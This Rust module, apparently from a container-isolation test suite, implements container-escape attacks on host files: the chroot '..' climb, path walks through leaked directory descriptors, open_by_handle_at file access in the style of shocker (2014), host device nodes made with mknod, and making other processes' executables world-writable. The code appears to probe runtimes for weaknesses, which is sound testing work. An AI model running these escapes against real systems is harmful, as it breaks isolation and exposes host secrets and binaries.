//! Attacks on the host's files.

use std::fs::{self, File, OpenOptions};
use std::os::fd::{AsRawFd as _, BorrowedFd, RawFd};
use std::os::unix::fs::{MetadataExt as _, PermissionsExt as _};
use std::os::unix::process::CommandExt as _;
use std::path::Path;
use std::process::Command;
use std::time::Instant;

use anyhow::{Context as _, Result, bail, ensure};
use nix::errno::Errno;
use nix::fcntl::{OFlag, open, openat};
use nix::mount::{MsFlags, mount};
use nix::sys::stat::{Mode, SFlag, makedev, mknod};
use nix::unistd::{chdir, chroot, fchdir};

use super::{NONE, WAIT, others};

/// The classic: chroot(2) moves the root and not the working directory. Who is below a new root with a
/// directory above it is not held by that root, and ".." leads up to the real one.
// ANCHOR: climb
pub(super) fn climb(secret: &Path, jail: Option<&&str>) -> Result<String> {
    if let Some(&jail) = jail {
        chroot(jail)?; // what a weak runtime does
        chdir("/")?;
    }
    let above = open(".", OFlag::O_DIRECTORY, Mode::empty())?;
    fs::create_dir_all("below")?;
    chroot("below")?;
    fchdir(&above)?;
    for _ in 0..64 {
        chdir("..")?;
    }
    chroot(".")?;
    Ok(fs::read_to_string(secret)?)
}
// ANCHOR_END: climb

/// From every open directory, and from the working directory, up as far as it goes and down to the
/// secret.
// ANCHOR: walk
pub(super) fn walk(secret: &Path) -> Result<String> {
    let secret = Path::new(&"../".repeat(64)).join(secret.strip_prefix("/")?);
    let mut last = None;
    for fd in std::iter::once(libc::AT_FDCWD).chain(0..128) {
        // SAFETY: whatever the number means, it is only handed to the kernel.
        let directory = unsafe { BorrowedFd::borrow_raw(fd) };
        match openat(directory, &secret, OFlag::O_RDONLY, Mode::empty()) {
            Ok(file) => return Ok(std::io::read_to_string(File::from(file))?),
            Err(Errno::EBADF) => {}
            Err(errno) => last = Some(errno),
        }
    }
    bail!("no open file leads there: {last:?}")
}
// ANCHOR_END: walk

/// A weak runtime, from where a container has its root to its exec: it has a directory of the host
/// open, as all runtimes have, and takes paths in the container as they come.
pub(super) fn careless(jail: &str, what: &str, path: &str, rest: &[&str]) -> Result<String> {
    let host = open("/", OFlag::O_DIRECTORY | OFlag::O_CLOEXEC, Mode::empty())?;
    // SAFETY: nothing here owns the number 9.
    let host = unsafe { nix::unistd::dup3_raw(host, 9, OFlag::O_CLOEXEC) }?;
    for shown in ["/proc", "/usr"] {
        let place = Path::new(jail).join(&shown[1..]);
        mount(Some(shown), &place, NONE, MsFlags::MS_BIND | MsFlags::MS_REC, NONE)?;
    }
    chroot(jail)?;
    chdir("/")?;
    match what {
        // Changes to the working directory.
        "chdir" => {
            chdir(path)?;
            drop(host);
            walk(Path::new(rest[0]))
        }
        // Opens a device that is to be the program's input.
        "open" => {
            let device = File::open(path)?;
            drop(host);
            let got = walk(Path::new(rest[0]));
            drop(device);
            got
        }
        // Executes the program.
        "exec" => Err(Command::new(path).args(rest).exec().into()),
        // Writes a file in /etc.
        "write" => {
            fs::write(path, rest[0])?;
            Ok(fs::read_to_string("/proc/sys/kernel/hostname")?)
        }
        // Hides a file below what it takes for /dev/null.
        "mask" => {
            mount(Some(path), rest[0], NONE, MsFlags::MS_BIND, NONE)?;
            OpenOptions::new().write(true).open(rest[0])?; // and writes nothing
            Ok("it can be written".into())
        }
        // Mounts a volume.
        "volume" => {
            mount(Some(rest[0]), path, NONE, MsFlags::MS_BIND, NONE)?;
            mounts_of(rest[1])
        }
        other => bail!("no carelessness {other}"),
    }
}

/// Makes the program that this process came from writable for everybody.
pub(super) fn chmod_exe(pid: &str) -> Result<String> {
    let exe = format!("/proc/{pid}/exe");
    let link = fs::read_link(&exe)?;
    fs::set_permissions(&exe, fs::Permissions::from_mode(0o777))?;
    Ok(format!("changed {}", link.display()))
}

/// The same with the program of everybody who comes in.
pub(super) fn chmod_exes() -> Result<String> {
    println!("ready");
    let start = Instant::now();
    while start.elapsed() < WAIT {
        for pid in others()? {
            if let Ok(changed) = chmod_exe(&pid) {
                println!("{changed}");
            }
        }
    }
    bail!("it is late")
}

/// Masked files that are something else than the device null.
pub(super) fn masks(paths: &[&str]) -> Result<String> {
    let open = paths.iter().filter(|path| {
        fs::metadata(path).is_ok_and(|file| !file.is_dir() && file.rdev() != makedev(1, 3))
    });
    let open: Vec<_> = open.copied().collect();
    ensure!(!open.is_empty(), "all of them are null or a directory");
    Ok(open.join(" "))
}

/// Where the host's directory with this name is mounted.
pub(super) fn mounts_of(root: &str) -> Result<String> {
    let mounts = fs::read_to_string("/proc/self/mountinfo")?;
    let places: Vec<_> = mounts
        .lines()
        .map(|line| line.split(' ').collect::<Vec<_>>())
        .filter(|fields| fields[3].ends_with(root))
        .map(|fields| fields[4])
        .collect();
    Ok(places.join(" "))
}

/// A file by its handle: a number that can be guessed (shocker.c, 2014). One directory of the file
/// system is enough to have all of it.
pub(super) fn handle_in(volume: &str, handle: &str) -> Result<String> {
    let volume = File::open(volume)?;
    let mut bytes =
        (0..handle.len()).step_by(2).map(|at| u8::from_str_radix(&handle[at..at + 2], 16));
    let mut bytes = bytes.by_ref().collect::<Result<Vec<u8>, _>>()?;
    let (volume, flags) = (volume.as_raw_fd(), libc::O_RDONLY);
    // SAFETY: bytes is a struct file_handle (open_by_handle_at(2)) and outlives the call.
    let fd =
        unsafe { libc::syscall(libc::SYS_open_by_handle_at, volume, bytes.as_mut_ptr(), flags) };
    let fd = RawFd::try_from(Errno::result(fd)?)?;
    Ok(fs::read_to_string(format!("/proc/self/fd/{fd}"))?)
}

/// A node for a device of the host, opened; nothing is read or written. In the directory, and if that
/// does not do, on a tmpfs of our own.
pub(super) fn disk(directory: &Path, kind: &str, major: u64, minor: u64) -> Result<String> {
    let kind = if kind == "block" { SFlag::S_IFBLK } else { SFlag::S_IFCHR };
    let open_in = |directory: &Path| -> Result<String> {
        let node = directory.join("disk");
        mknod(&node, kind, Mode::S_IRUSR, makedev(major, minor)).context("mknod")?;
        let opened = File::open(&node).context("open");
        fs::remove_file(&node)?;
        opened.map(|_| "the disk is open".into())
    };
    open_in(directory).or_else(|first| {
        mount(Some("tmpfs"), "/mnt", Some("tmpfs"), MsFlags::empty(), NONE)
            .with_context(|| format!("{first:#}; then mount"))?;
        open_in(Path::new("/mnt"))
    })
}
